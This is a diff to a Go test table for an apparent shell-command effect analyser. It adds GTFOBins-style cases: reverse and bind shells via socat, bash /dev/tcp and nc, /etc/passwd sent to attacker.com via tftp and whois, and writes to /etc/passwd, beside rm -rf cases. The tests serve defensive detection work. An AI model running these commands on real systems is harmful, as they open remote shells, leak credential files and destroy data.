@@ -534,6 +534,21 @@ var shellTable = []shellCase{
 	{cmd: `IFS=,; c=rm,-rf,/etc; $c`, want: []Effect{eRun("rm", "rm", "-rf", "/etc"), eDelR("/etc")}},
 	{cmd: `IFS=$(tool); c='rm -rf /'; $c`, unk: unkYes},
 
+	// ---- GTFOBins-style forms ----
+	{cmd: `RHOST=attacker.com RPORT=12345 socat tcp-connect:$RHOST:$RPORT exec:/bin/sh,pty,stderr,setsid,sigint,sane`, want: []Effect{eConn("attacker.com", "12345"), eDlInto("attacker.com", "sh")}, unk: unkYes},
+	{cmd: `RHOST=10.0.0.1 RPORT=9 bash -c 'bash -i >& /dev/tcp/$RHOST/$RPORT 0>&1'`, want: []Effect{eConn("10.0.0.1", "9"), eDlInto("10.0.0.1", "bash")}, unk: unkYes},
+	{cmd: `X=/etc; X=/tmp rm -rf $X`, want: []Effect{eDelR("/etc")}, not: []Effect{eDelR("/tmp")}},
+	{cmd: `tftp -m binary attacker.com -c put /etc/passwd`, want: []Effect{eConn("attacker.com", "69"), eSend("attacker.com", "/etc/passwd")}},
+	{cmd: "whois -h attacker.com -p 12345 \"`cat /etc/passwd`\"", want: []Effect{eRead("/etc/passwd"), eSend("attacker.com", "output")}},
+	{cmd: `sed -n "1w /etc/x" /etc/passwd`, want: []Effect{eWrite("/etc/x"), eRead("/etc/passwd")}},
+	{cmd: `sed '1e id' f`, want: []Effect{eRun("id", "id")}},
+	{cmd: `sed -n 's/a/b/p' f`, not: []Effect{{Kind: Write}}},
+	{cmd: `vim -c ':!/bin/sh'`, want: []Effect{eRunPath("sh", "/bin/sh")}},
+	{cmd: `busybox nc 10.0.0.1 4444 -e sh`, want: []Effect{eDlInto("10.0.0.1", "sh")}, unk: unkYes},
+	{cmd: `nc -l -p 12345 -e /bin/sh`, want: []Effect{eListen("12345"), {Kind: Download, Into: "sh", Port: "12345"}}, unk: unkYes},
+	{cmd: `mkfifo /tmp/p; nc 10.0.0.1 4444 0</tmp/p | /bin/bash > /tmp/p 2>&1`, want: []Effect{eDlInto("10.0.0.1", "bash")}, unk: unkYes},
+	{cmd: `dd of=/etc/passwd <<< DATA`, want: []Effect{eWrite("/etc/passwd")}},
+
 	// ---- what cannot be read ----
 	{cmd: `rm -rf "$(cat dirs.txt)"`, want: []Effect{eRead("/work/proj/dirs.txt")}, unk: unkYes},
 	{cmd: `eval "$X"`, unk: unkYes},
